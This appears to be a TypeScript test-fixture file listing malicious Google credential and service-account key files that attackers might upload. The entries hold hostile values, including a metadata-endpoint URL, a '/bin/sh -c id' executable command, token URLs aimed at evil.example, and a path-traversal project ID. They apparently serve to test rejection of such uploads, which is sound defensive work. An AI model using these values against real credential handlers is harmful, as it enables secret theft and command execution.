/** What people (and attackers) upload as "the Google credential": every form that names a host, a file or a command of the uploader's choice. */
const source = (credentialSource: object): object => ({
  type: 'external_account',
  audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/p',
  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
  token_url: 'https://evil.example/token',
  credential_source: credentialSource,
});

export const googleFileTricks: readonly (readonly [name: string, file: object])[] = [
  ['external_account by URL', source({ url: 'http://169.254.169.254/computeMetadata/v1/', headers: { Metadata: 'true' } })],
  ['external_account by file', source({ file: '/run/secrets/opening_gcp' })],
  ['external_account by executable', source({ executable: { command: '/bin/sh -c id' } })],
  ['external_account by the worker’s AWS identity', source({ environment_id: 'aws1', regional_cred_verification_url: 'https://evil.example' })],
  ['external_account by certificate', source({ certificate: { certificate_config_location: '/etc/ssl' } })],
  ['external_account with impersonation', { ...source({ file: '/dev/null' }), service_account_impersonation_url: 'https://evil.example/generateAccessToken' }],
  ['external_account_authorized_user', { type: 'external_account_authorized_user', token_url: 'https://evil.example', refresh_token: 'x', client_id: 'x' }],
  ['impersonated_service_account', { type: 'impersonated_service_account', service_account_impersonation_url: 'https://evil.example', source_credentials: {} }],
  ['authorized_user', { type: 'authorized_user', client_id: 'x', client_secret: 'x', refresh_token: 'x', token_uri: 'https://evil.example' }],
  ['gdch_service_account', { type: 'gdch_service_account', token_uri: 'https://evil.example/token', ca_cert_path: '/etc/ssl' }],
];

/** Members that a service-account key file may hold beside the five that are read. */
export const keyFileTricks: readonly (readonly [name: string, members: Readonly<Record<string, unknown>>])[] = [
  ['token_uri', { token_uri: 'https://evil.example/token' }],
  ['universe_domain', { universe_domain: 'evil.example' }],
  ['auth_uri', { auth_uri: 'https://evil.example/auth' }],
  ['client_x509_cert_url', { client_x509_cert_url: 'https://evil.example/cert', auth_provider_x509_cert_url: 'https://evil.example/certs' }],
  ['a universe hidden in the address', { client_email: 'auditor@shop-one.iam.evil.example' }],
  ['a project that is a path', { project_id: '../../evil.example' }],
];
